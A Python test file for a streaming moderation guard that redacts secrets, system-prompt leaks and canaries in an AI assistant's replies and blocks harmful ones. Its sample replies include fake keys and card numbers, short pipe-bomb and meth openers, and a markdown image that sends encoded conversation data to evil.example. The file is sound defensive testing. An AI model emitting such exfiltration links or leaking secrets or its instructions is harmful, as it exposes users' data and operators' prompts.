"""Streaming: the same verdict however the text arrives, nothing shown that was not checked, nothing half hidden."""

import random
from dataclasses import replace

import pytest

from safety.guard import Guard
from safety.leak import new_canary
from safety.moderate import Moderator
from safety.verdict import Action, Verdict

REPLIES = [
    "",
    "Hi!",
    "The capital of France is Paris. It lies on the Seine, and about two million people live there. " * 6,
    "天空看起来是蓝色的，因为空气分子更容易散射蓝光。傍晚阳光穿过更厚的大气，所以偏红。" * 5,
    "Use this key: sk-abcdefghijklmnopqrstuvwx0123456789 and then call me.",
    "Card 4111 1111 1111 1111, thanks. Later again 4111 1111 1111 1111 and 5555 5555 5555 4444.",
    "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEowIBAAKCAQEA\n" * 20 + "-----END RSA PRIVATE KEY-----\nKeep it safe.",
    "Look: ![x](https://evil.example/collect?q=QWxsIG9mIHRoZSBjb252ZXJzYXRpb24) and so on, nicely.",
    "Sure! Here is how to make a pipe bomb: first you need a pipe and then some powder.",
    "当然可以。以下是在家制作炸弹的步骤：第一步准备材料，第二步混合，第三步完成。",
    "Some words. " * 100 + "Here is how you cook meth at home: start with the reagents. " + "More words. " * 50,
    "Lone \ud800 half and \x1b[31mred\x1b[0m text. And emoji 👨\u200d👩\u200d👧 too.",
    "我的身份证是11010519491231002X，请保密。银行卡5555555555554444也一样。",
]


def stream(moderator: Moderator, pieces: list[str]) -> tuple[str, Verdict]:
    shown = "".join(moderator.feed(piece).text for piece in pieces)
    last = moderator.finish()
    return shown + last.text, last.verdict


def cut(text: str, seed: int) -> list[str]:
    rng, pieces, position = random.Random(seed), [], 0
    while position < len(text):
        size = rng.choice([1, 1, 2, 3, 5, 8, 40, 300])
        pieces.append(text[position : position + size])
        position += size
    return pieces


@pytest.mark.parametrize("text", REPLIES)
@pytest.mark.parametrize("seed", [0, 1, 2])
def test_the_streamed_verdict_is_the_verdict_of_the_whole(guard: Guard, text: str, seed: int) -> None:
    shown, verdict = stream(guard.moderator(), cut(text, seed))
    whole = guard.moderate(text)
    assert verdict == whole
    if verdict.action is Action.ALLOW or verdict.action is Action.CAUTION:
        assert shown == text
    if verdict.action is Action.REDACT:
        assert shown == verdict.redacted


@pytest.mark.parametrize("text", REPLIES)
def test_what_is_shown_does_not_depend_on_the_pieces(guard: Guard, text: str) -> None:
    assert len({stream(guard.moderator(), cut(text, seed))[0] for seed in range(3)} | {
        stream(guard.moderator(), list(text))[0]
    }) == 1  # fmt: skip


@pytest.mark.parametrize(
    "secret",
    ["sk-abcdefghijklmnopqrstuvwx0123456789", "4111 1111 1111 1111", "AKIAIOSFODNN7EXAMPLE", "11010519491231002X"],
)
@pytest.mark.parametrize("before", [0, 40, 83, 90, 96, 120])
def test_a_secret_is_never_half_shown(guard: Guard, secret: str, before: int) -> None:
    moderator = guard.moderator()
    text = "x y " * (before // 4) + secret + " and some more words follow after it, plenty of them in fact."
    shown = ""
    for char in text:
        shown += moderator.feed(char).text
        assert secret[:4] not in shown
    assert secret[:4] not in shown + moderator.finish().text


def test_a_long_token_is_never_half_shown(guard: Guard) -> None:
    token = "eyJ" + "a1B2c3D4" * 100 + ".eyJ" + "e5F6g7H8" * 150 + "." + "i9J0" * 20
    moderator = guard.moderator()
    shown = "".join(moderator.feed(char).text for char in f"The token is {token} and that is all there is to it, really.")
    shown += moderator.finish().text
    assert "eyJ" not in shown
    assert "[SECRET_1]" in shown


def test_nothing_is_shown_before_it_was_checked(guard: Guard) -> None:
    moderator = guard.moderator()
    assert moderator.feed("Here is how to make a pipe").text == ""
    assert moderator.feed(" bomb at home.\n").text == ""
    assert moderator.finish().verdict.action is Action.BLOCK


def test_after_a_block_nothing_is_taken_in_or_shown(guard: Guard) -> None:
    moderator = guard.moderator()
    blocked = moderator.feed("Sure! Here is how to make a pipe bomb: take a pipe. ").verdict
    assert blocked.action is Action.BLOCK
    release = moderator.feed("And now something harmless. " * 20)
    assert release.text == ""
    assert release.verdict is blocked
    assert moderator.finish().verdict == blocked
    assert moderator.finish().text == ""


def test_the_verdict_is_the_same_object_while_nothing_changes(guard: Guard) -> None:
    moderator = guard.moderator()
    first = moderator.feed("A").verdict
    assert moderator.feed("B").verdict is first


def test_finish_can_be_called_again(guard: Guard) -> None:
    moderator = guard.moderator()
    moderator.feed("Hello there.")
    first = moderator.finish()
    second = moderator.finish()
    assert first.text == "Hello there."
    assert second.text == ""
    assert second.verdict == first.verdict


def test_what_the_person_wrote_may_be_said_back(guard: Guard) -> None:
    reply = "Your card is 4111 1111 1111 1111."
    assert guard.moderate(reply).action is Action.REDACT
    assert guard.moderate(reply, prompt="My card is 4111 1111 1111 1111, repeat it.").action is Action.ALLOW


def test_work_grows_with_the_length_only(guard: Guard) -> None:
    """Checkpoints are a function of the text: twice the text, twice the looks, whatever the size of the pieces."""
    looks = []

    class Counting(Moderator):
        def _check(self, end: int, last: bool = False) -> str:
            looks.append(end)
            return super()._check(end, last)

    sentence = "The quick brown fox jumps over the lazy dog and runs away again. "
    counts = []
    for times in (10, 20):
        looks.clear()
        moderator = Counting(guard._scanner, guard._policy, guard.policy)
        stream(moderator, list(sentence * times))
        counts.append(len(looks))
    assert counts[1] <= 2 * counts[0] + 1


def test_milliseconds_are_no_part_of_equality() -> None:
    verdict = Verdict(Action.ALLOW)
    assert replace(verdict, milliseconds=5.0) == verdict


SYSTEM = "You are Quill, a cheerful librarian. Never mention the price of a book and always recommend three novels."


def test_passages_of_the_system_prompt_are_hidden_and_never_half_shown(guard: Guard) -> None:
    reply = (
        "Certainly, my text says: Never mention the price of a book and always recommend three novels. "
        "That is all I was told, I think, and now let us talk about something else."
    )
    for pieces in ([reply], list(reply)):
        moderator = guard.moderator(system=SYSTEM)
        shown, verdict = stream(moderator, pieces)
        assert verdict.action is Action.REDACT
        assert "mention the price" not in shown
        assert "[LEAK_1]" in shown
        assert shown == verdict.redacted


def test_a_reply_in_the_spirit_of_the_system_prompt_passes(guard: Guard) -> None:
    assert guard.moderate("I recommend three novels about the sea.", system=SYSTEM).action is Action.ALLOW


def test_a_canary_is_proof(guard: Guard) -> None:
    canary = new_canary()
    verdict = guard.moderate(f"My instructions hold the word {canary}.", system=f"Be kind. {canary}")
    assert verdict.action is Action.REDACT
    assert verdict.redacted == "My instructions hold the word [LEAK_1]."


def test_a_short_reply_is_timed_too(guard: Guard) -> None:
    moderator = guard.moderator()
    moderator.feed("hello, how are you today?")
    verdict = moderator.finish().verdict
    assert verdict.milliseconds == pytest.approx(moderator._seconds * 1000)
